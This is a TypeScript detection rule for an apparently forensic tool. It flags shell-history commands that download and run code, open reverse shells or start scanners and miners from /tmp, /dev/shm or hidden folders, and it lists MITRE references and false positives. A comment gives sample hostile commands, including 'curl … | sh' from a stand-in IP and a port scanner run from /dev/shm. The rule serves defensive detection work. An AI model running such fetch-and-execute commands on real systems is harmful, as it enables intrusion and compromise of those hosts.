import type { DraftFinding } from '../../model/finding.js';
import { judgeCommand, maxSeverity } from '../persistence/shared.js';
import type { Severity } from '../../model/finding.js';
import { defineRule } from '../types.js';
import { commandFinding, signalsOf } from './shared.js';

/**
 * activity.download-execute: a history command downloads and runs code (`curl … | sh`, `base64 -d |
 * bash`, a file fetched then made executable and run), opens a reverse shell, or runs a program from
 * a world-writable or hidden folder or one the tool lists name (scanners, miners, kits).
 */
export const downloadExecute = defineRule({
  id: 'activity.download-execute',
  title: 'A shell history downloads and runs code, or runs a kit',
  description: "The first thing an intruder does after logging in is fetch the kit: `curl … | sh`, `wget` then `chmod +x` and run, or unpack it in /tmp, /dev/shm or a dot-folder and start the scanner or miner from there. The command names the URL, the folder and the tool.",
  level: 'high',
  mitre: ['T1105', 'T1059.004', 'T1204'],
  references: ['https://attack.mitre.org/techniques/T1105/', 'https://attack.mitre.org/techniques/T1059/004/'],
  falsePositives: ['Installers run as `curl … | sh` by an administrator (rustup, Docker, Homebrew): look at the URL, who typed it and when.', 'Building and running software from a checkout in /tmp.'],
  needs: ['historyCommands'],
  thresholds: { minScore: 40 },
  detect(facts, t) {
    const out: DraftFinding[] = [];
    for (const c of facts.historyCommands) {
      if (c.kind !== 'command') continue;
      // Sample: `curl -s http://203.0.113.9/x.sh | sh`, `cd /dev/shm/.x && ./pscan2 22`
      const v = judgeCommand(c.analysis, c.toolHits, t.minScore);
      const runs = signalsOf(c, 'download-run');
      if (!v && runs.length === 0) continue;
      let severity: Severity | null = v?.severity ?? null;
      const reasons = [...(v?.reasons ?? [])];
      for (const r of runs) {
        reasons.push(`it ${r.what}: a file fetched from the network and run`);
        severity = maxSeverity(severity, 'high');
      }
      out.push(commandFinding(facts, downloadExecute, c, severity!, v?.tool ? 'Known tool run from a shell' : 'Code downloaded or run from a writable folder', reasons, 'Preserve what it ran (the processes step preserves running executables; quarantine the folder), and find what the downloaded code left behind: cron lines, units, keys, files changed since then.', {
        ...(v?.runs ? { runs: v.runs } : runs[0]?.target ? { runs: runs[0].target } : {}),
        ...(c.analysis?.fetchPipe ? { fetchPipe: c.analysis.fetchPipe } : {}),
        ...(v?.tool ? { tool: v.tool.description ?? v.tool.pattern } : {}),
      }));
    }
    return out;
  },
});
